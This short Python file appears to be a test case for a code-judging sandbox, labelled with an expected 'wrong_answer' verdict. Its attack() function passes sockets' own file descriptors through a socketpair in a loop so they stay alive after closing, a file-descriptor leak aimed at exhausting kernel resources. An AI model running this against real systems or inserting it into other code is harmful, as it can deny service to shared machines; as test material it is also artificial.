# Sends sockets through themselves, so that they are held by nobody and still there.
# verdicts: wrong_answer
import socket


def attack():
    for _ in range(200):
        left, right = socket.socketpair()
        try:
            socket.send_fds(left, [b"x"], [left.fileno(), right.fileno()] * 20)
        except OSError:
            break
        finally:
            left.close()
            right.close()
